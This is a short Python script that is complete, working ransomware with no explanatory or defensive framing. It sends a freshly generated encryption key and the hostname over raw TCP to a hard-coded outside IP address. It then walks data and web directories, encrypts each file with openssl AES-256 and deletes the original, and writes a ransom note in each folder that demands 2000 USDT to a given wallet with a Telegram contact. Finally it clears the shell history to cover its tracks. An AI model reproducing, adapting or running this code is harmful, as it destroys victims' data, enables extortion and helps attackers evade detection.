#!/usr/bin/env python3
# per-file openssl, key over raw tcp
import os
import socket
import secrets
import subprocess

HOST, PORT = "45.9.148.21", 4444
TOP = ["/data", "/srv", "/var/www", "/home", "/mnt", "/opt/app"]
BAD = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/boot", "/run")


def beacon(pw):
    s = socket.create_connection((HOST, PORT), timeout=15)
    s.sendall(("%s|%s\n" % (socket.gethostname(), pw)).encode())
    s.close()


def encrypt(src, pw):
    dst = src + ".aes"
    r = subprocess.run(
        ["openssl", "enc", "-aes-256-cbc", "-salt", "-pbkdf2", "-iter", "10000",
         "-in", src, "-out", dst, "-pass", "pass:" + pw],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if r.returncode == 0 and os.path.exists(dst):
        os.unlink(src)
        return True
    if os.path.exists(dst):
        os.unlink(dst)
    return False


def main():
    pw = secrets.token_urlsafe(32)
    try:
        beacon(pw)
    except OSError:
        return  # no key escrow, no point
    for top in TOP:
        for root, dirs, files in os.walk(top, topdown=True):
            if root.startswith(BAD):
                dirs[:] = []
                continue
            for fn in files:
                if fn.endswith(".aes") or fn == "READ_ME.txt":
                    continue
                encrypt(os.path.join(root, fn), pw)
            with open(os.path.join(root, "READ_ME.txt"), "w") as fh:
                fh.write("All files in this container were encrypted with AES-256.\n"
                         "Pay 2000 USDT (TRC20) to TXr8aK3mYvP7hQ2wN5zL9cB4dF6gJ1sE0u\n"
                         "Then contact @unlock_support on telegram with host %s\n"
                         % socket.gethostname())
    subprocess.run("history -c; rm -f ~/.bash_history", shell=True)


if __name__ == "__main__":
    main()
